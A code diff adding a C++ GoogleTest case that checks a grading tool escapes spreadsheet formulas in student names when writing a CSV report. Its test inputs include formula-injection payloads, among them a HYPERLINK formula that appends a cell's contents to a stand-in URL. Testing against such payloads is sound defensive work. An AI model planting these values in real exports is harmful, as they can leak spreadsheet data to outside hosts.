@@ -3,6 +3,8 @@
 // store.
 #include <gtest/gtest.h>
 
+#include <QJsonArray>
+#include <QJsonDocument>
 #include <QProcess>
 #include <QTemporaryDir>
 
@@ -74,6 +76,35 @@ TEST_F(HostileText, ControlCharactersReachNoLineBasedOutput) {
         }
         EXPECT_TRUE(run.out.contains(output.shown)) << run.out.toStdString();
     }
+}
+
+// Names that a spreadsheet would take for formulas are written to the CSV report as text.
+TEST_F(HostileText, NoFieldOfTheCsvReportIsAFormula) {
+    const QStringList names = {"=HYPERLINK(\"http://example.com/\"&B6,\"alice\")",
+                               "+1+2",
+                               "-2+3",
+                               "@SUM(1)",
+                               "\t=2+3",
+                               "\r=2+3"};
+    for (const QString& name : names) saveStudent(name, "Student");
+    saveStudent("plain", "Student");
+    const QString csv = dir.filePath("report.csv");
+    ASSERT_EQ(
+        relvane({"grade", "--db", database(), "--reference", "teacher", "--all", "--output", csv})
+            .status,
+        0);
+    QProcess python;
+    python.start("/usr/bin/python3",
+                 {"-c",
+                  "import csv, json, sys\n"
+                  "rows = list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline='')))\n"
+                  "print(json.dumps([r[0] for r in rows if r]))",
+                  csv});
+    python.waitForFinished(60000);
+    const QJsonArray firstFields = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
+    for (const QString& name : names)
+        EXPECT_TRUE(firstFields.contains("'" + name)) << name.toStdString();
+    EXPECT_TRUE(firstFields.contains("plain")) << "other fields stay as they are";
 }
 
 }  // namespace
